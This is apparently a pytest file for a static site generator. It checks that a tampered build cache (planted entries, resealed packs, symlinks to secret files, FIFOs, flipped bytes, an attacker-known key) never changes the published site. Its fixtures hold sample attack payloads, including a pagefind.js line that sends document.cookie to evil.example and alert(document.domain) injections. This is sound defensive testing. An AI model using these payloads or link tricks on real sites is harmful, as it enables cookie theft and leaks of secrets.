"""The build cache, the build's work folders and the search documents, tried as an attacker would.

A pull request can commit files anywhere in the checkout; the cache used to live there (beside
``--out``) and was served unread. Now it lives outside the checkout, and an entry is served only if
its manifest is sealed with this user's key and every file checks: a planted, replaced, linked or
damaged entry makes the build slower, never different. A build stopped by a signal, or killed
outright, leaves no work folder behind (after the next build). One huge cell costs Pagefind no
more than a normal record.
"""

from __future__ import annotations

import gzip
import hashlib
import hmac
import json
import os
import random
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from markupsafe import Markup

from generator.build import build
from generator.core.cache import ENTRY_FILE, KEY_FILE, Cache, cache_root
from generator.render.documents import SEARCH_FIELD_CHARS, excerpt
from tests.conftest import DEMO_DATA, MINI_DATA, ROOT, search_fragments
from tests.test_incremental import flip_a_byte as flip_middle_bytes
from tests.test_site import rewrite_csv

MARKER = b"PLANTED-by-a-pull-request-7f3a"
SHM = Path("/dev/shm")


def tree_digest(root: Path) -> dict[str, str]:
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file()
    }


def holds_marker(root: Path, marker: bytes = MARKER) -> list[str]:
    """Files under ``root`` holding ``marker`` (gzip files, like Pagefind's, are opened too)."""
    found = []
    for path in sorted(p for p in root.rglob("*") if p.is_file()):
        data = path.read_bytes()
        if data[:2] == b"\x1f\x8b":
            data += gzip.decompress(data)
        if marker in data:
            found.append(path.relative_to(root).as_posix())
    return found


@pytest.fixture(scope="module")
def cold_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The mini tree built with an empty cache of its own: what every build of it must equal."""
    base = tmp_path_factory.mktemp("cold")
    shutil.copytree(MINI_DATA, base / "data")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GONGKAI_CACHE_DIR", str(base / "cache"))
        build(base / "data", base / "site", log=None)
    return base / "site"


@pytest.fixture
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The default cache place (``$XDG_CACHE_HOME/gongkai``), inside this test's folder."""
    monkeypatch.delenv("GONGKAI_CACHE_DIR", raising=False)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    return tmp_path / "xdg" / "gongkai"


# -- Where the cache lives ------------------------------------------------------------------------


def test_the_cache_lives_outside_the_checkout_one_folder_per_output(
    mini_data: Path, tmp_path: Path, private_cache: Path
) -> None:
    checkout = tmp_path / "checkout"
    build(mini_data, checkout / "public", log=None)
    build(mini_data, tmp_path / "other-portal" / "public", log=None)
    assert not (checkout / ".gongkai-cache").exists()
    folders = sorted(p.name for p in private_cache.iterdir() if p.is_dir())
    assert len(folders) == 2  # two outputs, two cache folders: portals never mix
    assert cache_root(checkout / "public").parent == private_cache
    key = private_cache / KEY_FILE
    assert stat.S_IMODE(key.stat().st_mode) == 0o600 and key.stat().st_uid == os.geteuid()


def _old_layout(entry: Path, target: Path, note: str) -> None:
    """``entry`` copied to ``target`` as the old cache stored it: files, ``.note`` and ``.complete``."""
    shutil.copytree(entry, target)
    (target / ENTRY_FILE).unlink()
    (target / ".note").write_text(note, encoding="utf-8")
    (target / ".complete").write_text("", encoding="utf-8")


def test_a_cache_planted_beside_the_output_is_not_used(
    mini_data: Path, tmp_path: Path, cold_site: Path, monkeypatch: pytest.MonkeyPatch, private_cache: Path
) -> None:
    """A pull request commits ``.gongkai-cache/`` (the old default place, beside ``--out public``)
    with a pagefind.js that runs its script and a bulk file linked to ``.git/config``."""
    monkeypatch.setenv("GONGKAI_CACHE_DIR", str(tmp_path / "seed"))
    build(mini_data, tmp_path / "seed-site", log=None)  # real entries, to plant under their real keys
    monkeypatch.delenv("GONGKAI_CACHE_DIR")
    checkout = tmp_path / "checkout"
    (checkout / ".git").mkdir(parents=True)
    (checkout / ".git" / "config").write_bytes(b"[remote]\n\ttoken = " + MARKER + b"\n")
    planted = checkout / ".gongkai-cache"
    for entry in (tmp_path / "seed" / "opendata-bulk").iterdir():
        _old_layout(entry, planted / "opendata-bulk" / entry.name, "12")
    for pack in (tmp_path / "seed" / "pagefind").iterdir():  # a search bundle as the old cache held it
        folder = planted / "pagefind" / pack.name.removesuffix(".pack")
        for name, data in unpack(pack)[1].items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(data)
        (folder / ".note").write_text("12", encoding="utf-8")
        (folder / ".complete").write_text("", encoding="utf-8")
    for script in planted.glob("pagefind/*/pagefind.js"):
        script.write_bytes(b"fetch('https://evil.example/?'+document.cookie);//" + MARKER)
    for bulk in planted.glob("opendata-bulk/*/decisions.json"):
        bulk.unlink()
        bulk.symlink_to(checkout / ".git" / "config")

    summary = build(mini_data, checkout / "public", log=None)
    site = checkout / "public"
    assert summary.shards_reused == 0
    assert holds_marker(site) == []
    assert (site / "pagefind/pagefind.js").read_bytes() == (cold_site / "pagefind/pagefind.js").read_bytes()
    assert tree_digest(site) == tree_digest(cold_site)


# -- Entries altered in the cache itself ------------------------------------------------------------


def _pagefind_entry(cache: Path) -> Path:
    """The search bundle's entry: one sealed file (MAC, newline, a JSON header, newline, the files'
    bytes one after another), ``Cache.store_pack``."""
    (entry,) = (cache / "pagefind").iterdir()
    return entry


def unpack(pack: Path) -> tuple[dict[str, object], dict[str, bytes]]:
    """A pack's header and files, read as an attacker would, without checking its seal."""
    _mac, _newline, body = pack.read_bytes().partition(b"\n")
    head, _newline, data = body.partition(b"\n")
    header = json.loads(head)
    files, at = {}, 0
    for name, size in header["files"]:
        files[name], at = data[at : at + size], at + size
    return header, files


def repack(header: dict[str, object], files: dict[str, bytes], key: bytes) -> bytes:
    """A pack of ``files`` sealed with ``key``, as ``Cache.store_pack`` writes one."""
    header = {**header, "files": [[name, len(files[name])] for name in sorted(files)]}
    body = json.dumps(header, ensure_ascii=False, sort_keys=True).encode("utf-8")
    body += b"\n" + b"".join(files[name] for name in sorted(files))
    return hmac.new(key, body, hashlib.sha256).hexdigest().encode("ascii") + b"\n" + body


def _bulk_entry(cache: Path) -> Path:
    (entry,) = (cache / "opendata-bulk").iterdir()
    return entry


def _theme_entry(cache: Path) -> Path:
    (entry,) = (cache / "theme").iterdir()
    return entry


def _replace(path: Path, data: bytes) -> None:
    """New bytes in a new file (the cache's files are hard links to a published site's)."""
    path.unlink()
    path.write_bytes(data)


def replace_script_keep_seal(cache: Path, outside: Path) -> None:
    """pagefind.js replaced inside the pack by a script of the same length, the seal left as it was."""
    entry = _pagefind_entry(cache)
    header, files = unpack(entry)
    script = b"alert(document.domain);//" + MARKER
    files["pagefind.js"] = (script * (len(files["pagefind.js"]) // len(script) + 1))[
        : len(files["pagefind.js"])
    ]
    mac = entry.read_bytes().partition(b"\n")[0]
    _replace(entry, mac + repack(header, files, b"k" * 32)[len(mac) :])


def replace_script_and_reseal_with_another_key(cache: Path, outside: Path) -> None:
    """pagefind.js replaced and the pack sealed again, with a key not this user's."""
    entry = _pagefind_entry(cache)
    header, files = unpack(entry)
    files["pagefind.js"] = b"alert(document.domain);//" + MARKER
    _replace(entry, repack(header, files, b"k" * 32))


def link_bulk_file_outside(cache: Path, outside: Path) -> None:
    """A bulk download replaced by a symbolic link to a secret outside the cache."""
    target = _bulk_entry(cache) / "decisions.json"
    target.unlink()
    target.symlink_to(outside)


def link_pagefind_entry_outside(cache: Path, outside: Path) -> None:
    """The search bundle's pack replaced by a link to a file outside the cache."""
    entry = _pagefind_entry(cache)
    entry.unlink()
    entry.symlink_to(outside)


def fifo_in_bulk_entry(cache: Path, outside: Path) -> None:
    """A bulk download replaced by a FIFO (reading it would hang the build)."""
    target = _bulk_entry(cache) / "decisions.csv"
    target.unlink()
    os.mkfifo(target)


def flip_a_byte(cache: Path, outside: Path) -> None:
    """Disk damage: one byte flipped in place in a cached SQLite file, the search bundle's pack, the
    theme's script, every compiled template and every unit's and package's sealed file (rule
    outcomes, typed rows, zips' hashes)."""
    flip_middle_bytes(
        [
            _bulk_entry(cache) / "gongkai.db",
            _pagefind_entry(cache),
            _theme_entry(cache) / "assets" / "gongkai.js",
            *sorted(cache.glob("template-*")),
            *sorted(cache.glob("rules-*")),
            *sorted(cache.glob("rows-*")),
            *sorted(cache.glob("zips-*")),
        ]
    )


def plant_a_key_and_entries_sealed_with_it(cache: Path, outside: Path) -> None:
    """The key file replaced by one the attacker knows (a committed file: mode 0644), every entry
    resealed with it after its pagefind.js was replaced."""
    known = b"a" * 32
    (cache / KEY_FILE).unlink()
    (cache / KEY_FILE).write_text(known.hex(), encoding="utf-8")
    os.chmod(cache / KEY_FILE, 0o644)
    entry = _pagefind_entry(cache)
    header, files = unpack(entry)
    files["pagefind.js"] = b"alert(1);//" + MARKER
    Cache(cache, known).store_pack("pagefind", str(header["key"]), files, note="12")


#: Each way of altering the cache, and whether it altered the search bundle's entry.
TAMPERING = [
    (replace_script_keep_seal, True),
    (replace_script_and_reseal_with_another_key, True),
    (link_bulk_file_outside, False),
    (link_pagefind_entry_outside, True),
    (fifo_in_bulk_entry, False),
    (flip_a_byte, True),
    (plant_a_key_and_entries_sealed_with_it, True),
]


@pytest.mark.parametrize(("tamper", "search_entry"), TAMPERING, ids=[t.__name__ for t, _ in TAMPERING])
def test_an_altered_cache_entry_is_never_served(
    mini_data: Path,
    tmp_path: Path,
    cold_site: Path,
    monkeypatch: pytest.MonkeyPatch,
    tamper: Callable[[Path, Path], None],
    search_entry: bool,
) -> None:
    cache = tmp_path / "cache"
    monkeypatch.setenv("GONGKAI_CACHE_DIR", str(cache))
    # Each build goes to a new output folder: what it takes from the cache is then never the
    # published site's own files (which a rebuild of the same output keeps, generator.core.site_state).
    outs = (tmp_path / f"site-{n}" for n in range(1, 10))
    build(mini_data, next(outs), log=None)
    assert build(mini_data, next(outs), log=None).shards_reused == 1  # the cache works: served when intact
    outside = tmp_path / "outside" / "config"
    outside.parent.mkdir()
    outside.write_bytes(b"[credential]\n\thelper = " + MARKER + b"\n" + b"x" * 5000)
    tamper(cache, outside)

    out = next(outs)
    summary = build(mini_data, out, log=None)
    assert summary.shards_reused == (0 if search_entry else 1)
    assert tree_digest(out) == tree_digest(cold_site)  # exactly a cold build
    assert holds_marker(out) == []
    manifest = (out / "manifest.json").read_text(encoding="utf-8")
    assert hashlib.sha256(outside.read_bytes()).hexdigest() not in manifest
    assert not [
        p for p in out.rglob("*") if p.is_symlink() or (p.exists() and not (p.is_file() or p.is_dir()))
    ]
    # The bad entries were replaced by good ones: the next build is served from the cache again.
    out = next(outs)
    assert build(mini_data, out, log=None).shards_reused == 1
    assert tree_digest(out) == tree_digest(cold_site)
    if tamper is plant_a_key_and_entries_sealed_with_it:
        key = cache / KEY_FILE
        assert stat.S_IMODE(key.stat().st_mode) == 0o600 and key.read_text() != (b"a" * 32).hex()


@pytest.mark.skipif(not SHM.is_dir(), reason="needs a second file system (/dev/shm)")
def test_across_file_systems_entries_are_copied_and_still_verified(
    mini_data: Path, tmp_path: Path, cold_site: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the cache on another file system nothing can be hard-linked: files are copied, checked."""
    cache = Path(tempfile.mkdtemp(prefix="gongkai-test-cache-", dir=SHM))
    try:
        monkeypatch.setenv("GONGKAI_CACHE_DIR", str(cache))
        out = tmp_path / "site"
        build(mini_data, out, log=None)
        assert os.stat(out / "pagefind/pagefind.js").st_nlink == 1  # a copy, not a link
        out = tmp_path / "site-2"  # a new output: served from the cache, not kept from the site
        assert build(mini_data, out, log=None).shards_reused == 1
        assert tree_digest(out) == tree_digest(cold_site)
        flip_a_byte(cache, out)
        out = tmp_path / "site-3"
        assert build(mini_data, out, log=None).shards_reused == 0
        assert tree_digest(out) == tree_digest(cold_site)
    finally:
        shutil.rmtree(cache, ignore_errors=True)


# -- Work folders ------------------------------------------------------------------------------------


def _leftovers(pid: int, out: Path) -> list[Path]:
    """Work folders of the build process ``pid``: on tmpfs, in the temporary folder, beside ``out``."""
    places = [SHM, Path(tempfile.gettempdir()), out.parent]
    return sorted(p for place in places if place.is_dir() for p in place.iterdir() if f"-{pid}-" in p.name)


def _processes_using(text: str) -> list[str]:
    """Command lines of running processes that mention ``text`` (a build's Pagefind, say)."""
    found = []
    for proc in Path("/proc").iterdir():
        if proc.name.isdigit():
            try:
                command = (proc / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if text in command:
                found.append(command)
    return found


@pytest.fixture
def demo_copy(tmp_path: Path) -> Path:
    target = tmp_path / "demo"
    shutil.copytree(DEMO_DATA, target)
    return target


def _start_build(data: Path, out: Path, cache: Path) -> subprocess.Popen[str]:
    env = {**os.environ, "PYTHONPATH": str(ROOT), "GONGKAI_CACHE_DIR": str(cache)}
    return subprocess.Popen(
        [sys.executable, "-m", "generator.cli", "build", "--data", str(data), "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        start_new_session=True,  # its own process group, as a CI runner starts a step
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),  # as from a terminal
    )


def _wait_until_indexing(process: subprocess.Popen[str], out: Path) -> list[Path]:
    """Wait until the build has its work folders and has written search documents (mid-way)."""
    deadline = time.monotonic() + 240
    while time.monotonic() < deadline:
        assert process.poll() is None, process.communicate()
        folders = _leftovers(process.pid, out)
        search = [p for p in folders if p.name.startswith("gongkai-search-")]
        if search and any(search[0].glob("shard-*/**/index.html")):
            return folders
        time.sleep(0.05)
    raise AssertionError("the build never reached the render stage")


@pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT], ids=["SIGTERM", "SIGINT"])
def test_a_build_stopped_by_a_signal_leaves_no_work_folder(
    demo_copy: Path, tmp_path: Path, signum: int
) -> None:
    out = tmp_path / "site"
    process = _start_build(demo_copy, out, tmp_path / "cache")
    folders = _wait_until_indexing(process, out)
    assert {p.name.split("-")[0] for p in folders} >= {"gongkai", ".site.building"}
    (search,) = (p for p in folders if p.name.startswith("gongkai-search-"))
    os.kill(process.pid, signum)
    _stdout, stderr = process.communicate(timeout=120)
    assert _leftovers(process.pid, out) == []
    assert process.returncode != 0
    assert "Traceback" not in stderr
    assert f"生成被中断（收到 {signal.Signals(signum).name} 信号）" in stderr and "网站未更新" in stderr
    assert not out.exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".site.")]
    # Pagefind and the helper processes (forked: the same command line) stopped too.
    assert _processes_using(str(search)) == [] and _processes_using(str(out)) == []
    assert not [p for p in (tmp_path / "cache").rglob(".staging-*")]


def test_the_folders_of_a_killed_build_are_removed_by_the_next_build(
    demo_copy: Path, tmp_path: Path, mini_data: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "site"
    process = _start_build(demo_copy, out, tmp_path / "cache")
    folders = _wait_until_indexing(process, out)
    os.killpg(process.pid, signal.SIGKILL)  # no handler runs: the whole process group dies at once
    process.communicate(timeout=60)
    assert _leftovers(process.pid, out) == folders  # SIGKILL cannot be caught: they are left ...
    monkeypatch.setenv("GONGKAI_CACHE_DIR", str(tmp_path / "cache"))
    build(mini_data, out, log=None)
    assert _leftovers(process.pid, out) == []  # ... and the next build removes them
    assert not [p for p in (tmp_path / "cache").rglob(".staging-*")]


def test_the_sweep_leaves_running_builds_and_other_folders_alone(tmp_path: Path) -> None:
    from generator.core import scratch

    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        running = scratch.make_dir("gongkai-search-", tmp_path)
        alive = tmp_path / f"gongkai-search-{sleeper.pid}-abcd1234"
        alive.mkdir()
        other = tmp_path / "gongkai-search-notes"
        other.mkdir()
        dead = tmp_path / f"gongkai-search-{_dead_pid()}-abcd1234"
        dead.mkdir()
        assert scratch.sweep(tmp_path, "gongkai-search-", legacy=True) == [dead]
        assert running.is_dir() and alive.is_dir() and other.is_dir()
    finally:
        sleeper.kill()
        sleeper.wait()


def _dead_pid() -> int:
    process = subprocess.Popen(["true"])
    process.wait()
    return process.pid


# -- Bounded search documents ------------------------------------------------------------------------


def test_excerpt_cuts_long_fields_between_characters() -> None:
    assert excerpt("短文本") == "短文本"
    assert excerpt(None) == ""
    long = "𠀀甲" * SEARCH_FIELD_CHARS  # a character outside the BMP is never split
    cut = excerpt(long)
    assert len(cut) == SEARCH_FIELD_CHARS and cut.endswith("…") and long.startswith(cut[:-1])
    escaped = Markup("&amp;") * (SEARCH_FIELD_CHARS + 1)
    assert str(excerpt(escaped)) == "&amp;" * (SEARCH_FIELD_CHARS - 1) + "…"


def _unbroken_text(chars: int) -> str:
    """Chinese text without any punctuation or space: Pagefind's worst case."""
    rng = random.Random(14)
    pool = "的一是在不了有和人这中大为上个国我以要他时来用们生到作地于出就分对成会可主发年动同工也能下过子说产种面而方后多定行学法所民得经十三之进着等部度家电力里如水化高自二理起小物现实加量都两体制机当使点从业本去把性好应开它合还因由其些然前外天政四日那社义事平形相全"
    return "".join(rng.choice(pool) for _ in range(chars))


def test_a_one_megabyte_cell_costs_pagefind_no_more_than_a_normal_record(
    mini_data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GONGKAI_CACHE_DIR", str(tmp_path / "cache"))
    config = mini_data / "portal.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nmax_cell_chars: 2000000\n", encoding="utf-8")
    summary_text = _unbroken_text(1_000_000)
    rewrite_csv(mini_data / "fgw" / "2025Q2" / "decisions.csv", {"summary": summary_text})
    out = tmp_path / "site"
    # Before the bound, this cell alone kept Pagefind busy for minutes. What Pagefind is given is
    # checked below, not how long it took (a timing fails on a loaded machine, not on a defect).
    build(mini_data, out, log=None)
    page = (out / "decisions" / "fgw" / "jc2025-004" / "index.html").read_text(encoding="utf-8")
    assert summary_text in page  # the record page shows the whole text
    indexed = search_fragments(out / "pagefind")["/decisions/fgw/jc2025-004/"]["content"].replace(
        "\u200b", ""
    )
    assert summary_text[: SEARCH_FIELD_CHARS - 1] + "…" in indexed
    assert summary_text[SEARCH_FIELD_CHARS - 1 : SEARCH_FIELD_CHARS + 100] not in indexed
    assert len(indexed) < 2 * SEARCH_FIELD_CHARS


def test_a_new_version_of_the_code_never_reuses_what_the_old_one_wrote(tmp_path: Path) -> None:
    """The open-data cache key holds a fingerprint of the generator's own code and the whole of
    portal.yml: changing one byte of an exporter, or a setting such as ``demo``, changes the key."""
    import dataclasses
    import subprocess
    import sys

    from generator.export.tables import input_hash
    from generator.sources.load import load_portal

    copy = tmp_path / "code"
    shutil.copytree(Path(__file__).parent.parent / "generator", copy / "generator")
    script = "from generator.core.cache import code_fingerprint; print(code_fingerprint())"

    def fingerprint() -> str:
        return subprocess.run(
            [sys.executable, "-c", script], cwd=copy, capture_output=True, text=True, check=True
        ).stdout.strip()

    before = fingerprint()
    xlsx = copy / "generator" / "export" / "xlsx.py"
    xlsx.write_text(xlsx.read_text(encoding="utf-8") + "\n# changed\n", encoding="utf-8")
    assert fingerprint() != before
    portal = load_portal(MINI_DATA)
    other = dataclasses.replace(
        portal, config=dataclasses.replace(portal.config, demo=not portal.config.demo)
    )
    assert input_hash(portal, "bulk") != input_hash(other, "bulk")


def test_a_pack_gives_back_its_files_and_replaces_the_folder_an_older_cache_kept(tmp_path: Path) -> None:
    """A search bundle kept as one pack: the same files come back; the folder entry an older cache
    kept under the same key is removed (never read again); a pack under another key is a miss."""
    cache = Cache(tmp_path, b"k" * 32)
    files = {"pagefind.js": b"// js", "fragment/zh_1.pf_fragment": b"\x1f\x8b\x00", "empty": b""}
    folder = tmp_path / "bundle"
    for name, data in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data)
    cache.store("pagefind", "1.6.0-abc", folder, note="3")
    assert (tmp_path / "pagefind" / "1.6.0-abc").is_dir()
    cache.store_pack("pagefind", "1.6.0-abc", files, note="3")
    assert not (tmp_path / "pagefind" / "1.6.0-abc").exists()
    assert cache.lookup_pack("pagefind", "1.6.0-abc") == ("3", files)
    os.rename(tmp_path / "pagefind" / "1.6.0-abc.pack", tmp_path / "pagefind" / "1.6.0-def.pack")
    assert cache.lookup_pack("pagefind", "1.6.0-def") is None  # sealed, but for another key: removed
    assert not (tmp_path / "pagefind" / "1.6.0-def.pack").exists()
    cache.store_pack("pagefind", "1.6.0-ghi", {"../escape.js": b"x"})  # a name outside the entry
    assert cache.lookup_pack("pagefind", "1.6.0-ghi") is None


def test_a_stated_hash_is_sealed_only_for_a_linked_file_of_its_size_and_a_wrong_one_is_a_miss(
    tmp_path: Path,
) -> None:
    """``store(known=...)`` seals the hash a build took as it wrote a file, without reading it again.
    A right one is served; a wrong one (or one for a file of another size, sealed from the file
    itself) never serves other bytes: the lookup hashes every file again and misses."""
    cache = Cache(tmp_path / "cache", b"k" * 32)
    folder = tmp_path / "bulk"
    folder.mkdir()
    (folder / "a.csv").write_bytes(b"id\n1\n")
    (folder / "b.csv").write_bytes(b"id\n2\n")
    right = {
        name: (5, hashlib.sha256((folder / name).read_bytes()).hexdigest()) for name in ("a.csv", "b.csv")
    }
    cache.store("bulk", "k1", folder, known=right)
    entry = cache.lookup("bulk", "k1")
    assert entry is not None and {n: f[:2] for n, f in entry.files.items()} == right
    wrong_size = {"a.csv": (6, "0" * 64)}  # not this file's size: hashed from the file
    cache.store("bulk", "k2", folder, known=wrong_size)
    assert cache.lookup("bulk", "k2") is not None
    wrong = {"a.csv": (5, hashlib.sha256(b"id\n9\n").hexdigest())}
    cache.store("bulk", "k3", folder, known=wrong)
    assert cache.lookup("bulk", "k3") is None
    assert not (tmp_path / "cache" / "bulk" / "k3").exists()  # the bad entry is removed
